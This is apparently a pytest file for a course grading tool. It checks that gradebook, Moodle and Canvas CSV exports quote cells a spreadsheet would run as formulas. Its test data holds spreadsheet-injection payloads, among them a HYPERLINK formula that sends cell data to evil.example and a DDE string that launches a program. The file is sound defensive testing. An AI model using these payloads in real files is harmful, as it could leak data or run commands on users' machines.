"""Every CSV the course writes opens in a spreadsheet without running a formula from a file name or roster."""
import csv
import json
import re
from pathlib import Path

import pytest

from course import csv_safety, export, gradebook
from tests import class_results
from tests.class_results import LESSON

COURSE = Path(__file__).resolve().parent.parent / "course"
ATTACKS = ["=1+2", '=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+2", "-1+2", "@SUM(A1)", "\t=1", "\r=1",
           "  =1+2", "-"]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_cell_a_spreadsheet_would_run_starts_with_a_quote(text):
    assert csv_safety.cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-1", "+2.5", "10", "1e-3", " -0.5 ", "", "Ada Lovelace", "a=b", "ada@uni.example"])
def test_numbers_and_plain_text_stay_as_they_are(text):
    assert csv_safety.cell(text) == text


def test_every_csv_writer_of_the_course_goes_through_csv_safety():
    unsafe = [f"{path.relative_to(COURSE)}:{number}" for path in sorted(COURSE.rglob("*.py"))
              if path.name != "csv_safety.py"
              for number, line in enumerate(path.read_text().splitlines(), start=1)
              if re.search(r"\bcsv\s*\.\s*(writer|DictWriter)\b|\bwriterows?\(", line)
              and "csv_safety" not in line and ".writerow" not in line]
    assert not unsafe, f"CSV written without csv_safety: {unsafe}"
    writers = [p.name for p in COURSE.rglob("*.py") if re.search(r"\bcsv_safety\.writer\(", p.read_text())]
    assert sorted(writers) == ["export.py", "gradebook.py"]


def _read(path):
    with open(path, newline="", encoding="utf-8-sig") as f:
        return list(csv.reader(f))


def test_the_gradebook_quotes_a_file_name_that_is_a_formula(tmp_path):
    results = [{**r, "submitted_as": '=HYPERLINK("http://evil.example","x")'} if r["student"] == "bob" else r
               for r in class_results.results()]
    gradebook.write_gradebook(results, tmp_path / "gradebook.csv")
    rows = {row[0]: row for row in _read(tmp_path / "gradebook.csv")}
    assert rows["bob"][1] == '\'=HYPERLINK("http://evil.example","x")'
    total = rows["student"].index(f"{LESSON}:total")
    assert rows["bob"][total] == "7"  # scores stay numbers


def test_moodle_and_canvas_quote_roster_and_template_cells_that_are_formulas(tmp_path):
    folder, roster = class_results.write(tmp_path / "grading")
    roster.write_text(class_results.ROSTER.replace("Ada Lovelace", "=cmd|' /C calc'!A0")
                      + "zed,@SUM(1),zed@uni.example,\n")
    export.export(folder, "moodle", tmp_path / "moodle.csv", roster_path=roster)
    names = {row[0]: row[1] for row in _read(tmp_path / "moodle.csv")}
    assert names["ada@uni.example"] == "'=cmd|' /C calc'!A0" and names["zed@uni.example"] == "'@SUM(1)"
    template = tmp_path / "canvas.csv"
    with open(template, "w", newline="") as f:
        csv.writer(f).writerows([["Student", "ID", "SIS User ID", "SIS Login ID", "Section", f"{LESSON} (1)"],
                                 ["    Points Possible", "", "", "", "", "10"],
                                 ["=1+2", "11", "", "ada.l", "-", "-1"]])
    export.export(folder, "canvas", tmp_path / "out.csv", roster_path=roster, template=template,
                  skip_unmatched=True)
    assert _read(tmp_path / "out.csv")[2] == ["'=1+2", "11", "", "ada.l", "'-", "-1"]  # -1: a number, kept


def test_a_result_cannot_bring_a_formula_into_the_gradebook_through_its_language(tmp_path):
    folder, _ = class_results.write(tmp_path / "grading")
    path = folder / "results" / LESSON / "ada.json"
    path.write_text(json.dumps({**json.loads(path.read_text()), "language": "=1+2"}))
    gradebook.write_gradebook(gradebook.load_results(folder / "results"), tmp_path / "g.csv")
    assert "'=1+2" in _read(tmp_path / "g.csv")[1]
